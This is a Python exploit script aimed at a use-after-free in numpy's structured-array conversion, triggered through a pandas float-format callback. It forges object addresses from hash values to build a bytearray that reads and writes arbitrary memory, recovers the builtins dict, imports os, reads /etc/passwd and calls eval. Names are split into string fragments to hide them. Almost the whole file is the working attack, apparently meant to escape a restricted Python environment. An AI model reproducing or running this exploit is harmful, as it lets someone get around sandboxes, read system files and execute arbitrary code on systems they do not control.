# source: numpy 1.24 arraytypes.c.src VOID_setitem/UNICODE_setitem (borrowed row tuple read after PyObject_Str of a field); pandas display.float_format; CPython 3.11 tupledealloc/pymalloc reuse; default hash() = rotated address
# family: UAF in numpy structured-row conversion with no dunder of the script: the field is slice(Series) (slice repr -> Series repr -> formatter)
# goal: arbitrary read/write bytearray -> builtins dict -> import this, os.getuid, open /etc/passwd, eval
import numpy as np
import pandas as pd

M64 = 0xFFFFFFFFFFFFFFFF
state = {"lst": None, "tmpl": None, "keep": []}


def addr_of(o):
    h = hash(o) & M64
    return ((h << 4) | (h >> 60)) & M64


def q(v):
    return (v & M64).to_bytes(8, "little")




def fmt(v):
    if state["lst"] is not None:
        lst = state["lst"]
        state["lst"] = None
        lst[1] = None
        for k in range(200):
            state["keep"].append(bytearray(state["tmpl"]))
    return "%.2f" % v


pd.set_option("display.float_format", fmt)

TUPLE = addr_of(tuple)
DT = np.dtype([("f0", "U8")] + [("f%d" % k, "O") for k in range(1, 25)])
PAD = (0,) * 24
tick = slice(pd.Series([1.5]))


def forge(a):
    state["tmpl"] = bytes(16) + q(1 << 40) + q(TUPLE) + q(25) + q(a) * 24
    lst = [("x",) + PAD, (tick,) + PAD]
    state["lst"] = lst
    arr = np.array(lst, dtype=DT)
    return arr["f1"][1]


class Slot:
    __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")


BA = addr_of(bytearray)
body = bytearray(q(1 << 40) + q(BA) + q((1 << 63) - 1) + q((1 << 63) - 1) + q(0) + q(0) + q(0))
x = Slot()
xa = addr_of(x)
del x
holder = bytes(body)
mem = forge(xa + 16)
print("forged:", type(mem).__name__, len(mem) == (1 << 63) - 1)
print("type word ok:", int.from_bytes(mem[xa + 24:xa + 32], "little") == BA)


def probe():
    return 0


fa = addr_of(probe)
bt = int.from_bytes(mem[fa + 24:fa + 32], "little")
bd = forge(bt)
print("forged builtins:", type(bd).__name__, len(bd))
u = chr(95) * 2
imp = bd[u + "import" + u]
imp("this")
osm = imp("o" + "s")
print("uid via os:", osm.getuid())
rd = bd["op" + "en"]
print(rd(chr(47) + "etc" + chr(47) + "passwd").read()[:120])
ev = bd["ev" + "al"]
print("eval:", ev("6*7"))
